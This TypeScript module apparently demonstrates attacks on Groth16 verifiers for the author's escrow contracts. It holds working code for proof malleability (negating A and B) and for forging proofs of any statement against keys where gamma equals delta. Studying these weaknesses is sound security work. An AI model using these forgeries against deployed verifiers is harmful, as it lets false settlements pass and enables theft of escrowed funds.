/** Attacks on Groth16 that need no witness. docs/contracts.md says what each shows. */
import type { Provider } from 'ethers';
import type { ProofPoints } from '#chain/escrow.ts';
import { ensureCircuit, type CircuitName, type VerificationKey } from '#circuits/manifest.ts';
import { bigIntToBytes, bytesToBigInt, concatBytes, fromHex, SETTLEMENT_SIGNALS, toHex } from '#protocol/index.ts';
import type { SettlementSignals } from '#protocol/index.ts';

/** Order of BN254's base field. */
const Q = 21888242871839275222246405745257275088696311157297823662689037894645226208583n;

type Point = readonly [bigint, bigint];
/** Coordinates of G2 as the precompile takes them, c1 before c0. */
type Twist = readonly [Point, Point];

const negate = (y: bigint | string): bigint => (BigInt(y) === 0n ? 0n : Q - BigInt(y));

/** The same statement under another proof: (-A, -B, C) satisfies the equation whenever (A, B, C) does. */
export function negatedTwin({ a, b, c }: ProofPoints): ProofPoints {
  const [y1, y0] = b[1];
  return { a: [a[0], negate(a[1])], b: [b[0], [negate(y1), negate(y0)]], c };
}

async function precompile(provider: Provider, index: number, ...words: readonly bigint[]): Promise<Uint8Array> {
  const to = `0x${index.toString(16).padStart(40, '0')}`;
  return fromHex(await provider.call({ to, data: toHex(concatBytes(...words.map((word) => bigIntToBytes(word, 32)))) }));
}

async function pointOf(result: Promise<Uint8Array>): Promise<Point> {
  const bytes = await result;
  return [bytesToBigInt(bytes.subarray(0, 32)), bytesToBigInt(bytes.subarray(32, 64))];
}

/** vk_x = IC_0 + Σ signal_i · IC_(i+1), by the precompiles. */
async function statementPoint(key: VerificationKey, signals: readonly bigint[], provider: Provider): Promise<Point> {
  const constants = key.IC.map(([x, y]): Point => [BigInt(x), BigInt(y)]);
  let sum = constants[0]!;
  for (const [index, signal] of signals.entries()) {
    const term = await pointOf(precompile(provider, 7, ...constants[index + 1]!, signal));
    sum = await pointOf(precompile(provider, 6, ...sum, ...term));
  }
  return sum;
}

const twist = (point: VerificationKey['vk_beta_2']): Twist => [
  [BigInt(point[0][1]), BigInt(point[0][0])],
  [BigInt(point[1][1]), BigInt(point[1][0])],
];

/**
 * The proof that any key with gamma = delta accepts for any statement: A = alpha, B = beta, C = -vk_x.
 * @returns the proof, and whether it satisfies the key's equation once delta is replaced by gamma
 */
export async function forgeForEqualGammaDelta(
  name: CircuitName,
  signals: SettlementSignals,
  provider: Provider,
): Promise<{ readonly forged: ProofPoints; readonly control: boolean }> {
  const { verificationKey: key } = await ensureCircuit(name);
  const list = SETTLEMENT_SIGNALS.map((signal) => signals[signal]);
  const statement = await statementPoint(key, list, provider);
  const alpha: Point = [BigInt(key.vk_alpha_1[0]), BigInt(key.vk_alpha_1[1])];
  const [beta, gamma] = [twist(key.vk_beta_2), twist(key.vk_gamma_2)];
  const c: Point = [statement[0], negate(statement[1])];
  const minusAlpha: Point = [alpha[0], negate(alpha[1])];
  const pairs = [minusAlpha, beta, alpha, beta, statement, gamma, c, gamma].flat(2);
  const product = await precompile(provider, 8, ...pairs);
  return { forged: { a: alpha, b: beta, c }, control: bytesToBigInt(product) === 1n };
}
